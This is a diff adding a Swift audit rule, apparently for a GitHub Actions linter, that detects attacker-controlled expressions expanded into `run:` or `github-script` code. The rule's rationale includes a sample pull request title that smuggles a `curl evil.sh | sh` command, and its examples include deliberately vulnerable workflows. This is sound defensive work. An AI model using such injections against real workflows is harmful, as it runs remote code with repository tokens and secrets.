@@ -1,0 +1,99 @@
+import SlipwayCore
+
+/// Finds attacker-controlled expressions expanded into shell scripts or `github-script` code.
+struct TemplateInjectionRule: AuditRule {
+    static let metadata = RuleMetadata(
+        id: "template-injection",
+        name: "Template Injection",
+        area: .security,
+        severity: .critical,
+        confidence: .high,
+        summary: "An attacker-controlled expression is expanded inside a `run:` script or `github-script` code.",
+        rationale: """
+            GitHub substitutes `${{ … }}` into the script text before the shell runs it, so a pull request title \
+            such as `"; curl evil.sh | sh #` becomes code running with the job's token and secrets. Pass the value \
+            through an environment variable instead and quote it in the script: the shell then treats it as data.
+            """,
+        fixBefore: """
+            - run: echo "${{ github.event.issue.title }}"
+            """,
+        fixAfter: """
+            - run: echo "$TITLE"
+              env:
+                TITLE: ${{ github.event.issue.title }}
+            """,
+        triggeringExamples: [
+            RuleExample(
+                """
+                on: issues
+                jobs:
+                  triage:
+                    runs-on: ubuntu-latest
+                    steps:
+                      - run: |
+                          echo "Triaging"
+                          echo "↓${{ github.event.issue.title }}"
+                """
+            ),
+            RuleExample(
+                """
+                on: pull_request_target
+                jobs:
+                  greet:
+                    runs-on: ubuntu-latest
+                    steps:
+                      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea
+                        with:
+                          script: console.log("↓${{ github.head_ref }}")
+                """
+            ),
+        ],
+        nonTriggeringExamples: [
+            RuleExample(
+                """
+                on: issues
+                jobs:
+                  triage:
+                    runs-on: ubuntu-latest
+                    steps:
+                      - run: echo "$TITLE"
+                        env:
+                          TITLE: ${{ github.event.issue.title }}
+                      - run: echo "${{ github.sha }} ${{ contains(github.event.issue.title, 'bug') }}"
+                """
+            )
+        ]
+    )
+
+    init(options: NoOptions) {}
+
+    func check(_ file: WorkflowFile, context: RuleContext) -> [Finding] {
+        var findings: [Finding] = []
+        for (_, step) in file.allSteps {
+            var scalars: [YAMLScalar] = []
+            if let run = step.run { scalars.append(run) }
+            if step.actionName == "actions/github-script", let script = step.input("script") { scalars.append(script) }
+            for scalar in scalars {
+                for occurrence in ExpressionScanner.occurrences(in: scalar, source: file.source) {
+                    let tainted = occurrence.valuePaths.filter(ContextClassifier.isAttackerControlled)
+                    guard let path = tainted.first else { continue }
+                    findings.append(
+                        context.finding(
+                            in: file,
+                            at: occurrence.position,
+                            .injection(path: path, step: step.label)
+                        )
+                    )
+                }
+            }
+        }
+        return findings
+    }
+}
+
+extension String {
+    fileprivate static func injection(path: String, step: String) -> String {
+        "`\(path)` is attacker-controlled and expanded into the script of step '\(step)'; "
+            + "pass it through `env:` and reference the variable (quoted) instead"
+    }
+}
